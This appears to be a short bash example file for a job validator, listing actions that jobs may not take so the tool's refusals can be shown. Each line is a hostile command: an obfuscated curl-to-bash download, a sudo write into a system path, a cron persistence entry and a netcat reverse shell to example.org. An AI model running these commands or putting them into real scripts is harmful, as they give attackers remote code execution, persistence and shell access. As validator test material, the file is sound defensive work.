#!/usr/bin/env bash
# What jobs may not do, for a look at how it is refused: jobctl validate examples/dangerous
# This file is only read, never run: it has no run bit, and no demonstration submits it.

tool=cur
"${tool}l" -s https://example.org/install.sh | bash

sudo cp results.txt /usr/local/share/

echo "0 3 * * * $PWD/run.sh" | crontab -

srun nc -e /bin/sh example.org 4444
